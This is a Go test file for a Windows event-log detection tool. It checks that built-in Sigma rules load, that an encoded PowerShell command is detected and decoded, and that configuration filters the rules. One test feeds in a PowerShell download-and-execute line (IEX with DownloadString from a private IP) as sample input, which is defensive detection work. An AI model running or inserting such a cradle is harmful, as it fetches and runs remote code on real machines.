package detections

import (
	"encoding/base64"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/evtxhunt/evtxhunt/analyzer/event"
	"github.com/evtxhunt/evtxhunt/detections/cmdline"
	"github.com/evtxhunt/evtxhunt/detections/sigma"
)

func encodedPowerShell(script string) *event.Process {
	u := utf16.Encode([]rune(script))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	p := &event.Process{EventID: 1}
	p.Set(event.FieldImage, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`)
	p.Set(event.FieldCommandLine, "powershell.exe -nop -enc "+base64.StdEncoding.EncodeToString(b))
	return p
}

func TestLoadBuiltinWithChecks(t *testing.T) {
	set, errs := Load(Config{})
	if bad := sigma.Errors(errs); len(bad) > 0 {
		t.Fatalf("built-in rules fail to load: %v", bad)
	}
	ids := map[string]bool{}
	for _, r := range set.Rules() {
		ids[r.ID] = true
	}
	for _, ck := range cmdline.Checks() {
		if !ids[ck.ID] {
			t.Errorf("check %q is not among the set's rules", ck.Title)
		}
	}
	hits, _ := set.Detect(encodedPowerShell("IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/a')"), nil, nil)
	var found *Hit
	for i := range hits {
		if hits[i].Rule.ID == cmdline.EncodedPowerShell.ID {
			found = &hits[i]
		}
	}
	if found == nil {
		t.Fatalf("encoded PowerShell not detected; hits: %v", hits)
	}
	if !strings.Contains(found.Decoded, "DownloadString('http://10.1.2.3/a')") {
		t.Errorf("decoded payload %q lacks the script", found.Decoded)
	}
	if found.Rule.Level != cmdline.EncodedPowerShell.Level || found.Rule.Title != cmdline.EncodedPowerShell.Title {
		t.Errorf("stand-in rule %+v does not carry the check's metadata", found.Rule)
	}
}

func TestChecksFollowConfig(t *testing.T) {
	p := encodedPowerShell("Write-Output hello")
	// --min-level critical leaves the high-level checks out.
	set, _ := Load(Config{MinLevel: sigma.Critical})
	hits, _ := set.Detect(p, nil, nil)
	for _, h := range hits {
		if h.Rule.Level < sigma.Critical {
			t.Errorf("hit %q below --min-level", h.Rule.Title)
		}
	}
	// --no-builtin leaves the checks out with the built-in rules.
	set = NewSet(nil)
	if hits, _ := set.Detect(p, nil, nil); len(hits) != 0 {
		t.Errorf("a set without built-ins gave hits: %v", hits)
	}
}

func BenchmarkDetectBuiltin(b *testing.B) {
	set, _ := Load(Config{})
	p := &event.Process{EventID: 4688}
	p.Set(event.FieldImage, `C:\Program Files\Google\Chrome\Application\chrome.exe`)
	p.Set(event.FieldCommandLine, `"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US`)
	p.Set(event.FieldParentImage, `C:\Program Files\Google\Chrome\Application\chrome.exe`)
	var hits []Hit
	var scratch []*sigma.Rule
	b.ReportAllocs()
	for b.Loop() {
		hits, scratch = set.Detect(p, hits[:0], scratch)
	}
}
